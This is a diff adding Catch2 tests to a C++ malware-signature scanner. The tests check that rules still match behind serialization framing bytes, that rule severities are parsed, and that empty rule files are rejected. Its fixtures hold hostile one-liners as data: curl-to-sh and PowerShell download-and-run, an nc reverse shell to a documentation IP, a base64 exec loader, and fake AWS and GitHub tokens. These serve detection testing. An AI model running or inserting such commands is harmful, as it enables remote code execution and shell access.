@@ -9,9 +9,14 @@
 #include <fmt/ranges.h>
 #include <catch2/catch.hpp>
 
+#include <algorithm>
+#include <array>
 #include <random>
 #include <string>
+#include <string_view>
 #include <thread>
+#include <utility>
+#include <vector>
 
 namespace assay::match {
 namespace {
@@ -51,6 +56,61 @@ TEST_CASE("a string that lies across two windows is found once, at its offset") 
   std::string bytes(1000, '.');
   bytes.replace(197, 6, "needle");
   CHECK(matches_in_windows(signatures, bytes, {.window = 200, .reach = 64}) == "r 1: $a@197+6\n");
+}
+
+TEST_CASE("words that the bundled pack looks for begin behind what frames a short text") {
+  const auto signatures = Signatures::bundled().value();
+  // Opcodes of pickle, tags of protobuf and of MessagePack, whose next byte is the length.
+  static constexpr std::string_view kFrames = "\x8cUC\x0a\x12\x1a\x22\x2a\x32\x3a\xd9\xc4";
+  static constexpr std::array<std::pair<std::string_view, std::string_view>, 6> kTexts{{
+      {"curl -s http://198.51.100.7/a | sh ", "shell_download_and_run"},
+      {"nc -e /bin/sh 198.51.100.7 4444 ", "reverse_shell_command"},
+      {"iwr http://198.51.100.7/a | iex ", "powershell_download_and_run"},
+      {"exec(base64.b64decode('aWQ=')) ", "encoded_loader"},
+      {"AKIAQYLPMN5HHHFPZAM2 ", "leaked_credential"},
+      {"ghp_q3JLhoUFk7GREzKP9AmW2nYxTb5dVc8S4e1Q ", "leaked_credential"},
+  }};
+  for (const auto& [text, rule] : kTexts) {
+    INFO(text);
+    CHECK(matches_in_windows(signatures, std::string(text), {}).contains(rule));
+    for (const char frame : kFrames)
+      for (int length = 1; length < 256; ++length) {
+        const auto framed = std::string{frame, static_cast<char>(length)} + std::string(text);
+        if (!matches_in_windows(signatures, framed, {}).contains(rule)) {
+          CAPTURE(static_cast<int>(frame), length);
+          FAIL_CHECK("not found");
+        }
+      }
+    CHECK(matches_in_windows(signatures, "V" + std::string(text), {}).contains(rule));
+  }
+}
+
+TEST_CASE("severities of rules are read whatever the case of their letters, and others are told") {
+  const auto list = compiled("rule a { meta: severity = \"CRITICAL\" condition: true } "
+                             "rule b { meta: severity = 90 condition: true } "
+                             "rule c { meta: severity = \"warning\" condition: true } rule d { condition: true }")
+                        .list();
+  const auto find = [&](std::string_view name) {
+    return *std::ranges::find(list, name, &SignatureInfo::name);
+  };
+  CHECK(find("a").severity == Severity::critical);
+  CHECK(find("a").foreign_severity.empty());
+  CHECK(find("b").severity == Severity::medium);
+  CHECK(find("b").foreign_severity == "90");
+  CHECK(find("c").foreign_severity == "warning");
+  CHECK(find("d").foreign_severity.empty());
+}
+
+TEST_CASE("what was asked for and has no rule in it is an error") {
+  const auto error = [](std::vector<RuleSource> sources) {
+    const auto result = Signatures::compile(sources);
+    return result ? "" : result.error().message;
+  };
+  const RuleSource rule{.name = "d/a.yar", .text = "rule r { condition: true }", .origin = "d"};
+  const RuleSource comment{.name = "d/b.yar", .text = "// nothing yet", .origin = "d"};
+  CHECK(error({rule, comment}).empty());
+  CHECK(error({comment}) == "d: there is no rule in it");
+  CHECK(error({rule, {.name = "e.yar", .text = "", .origin = "e.yar"}}) == "e.yar: there is no rule in it");
 }
 
 TEST_CASE("windows count every byte once and in order") {
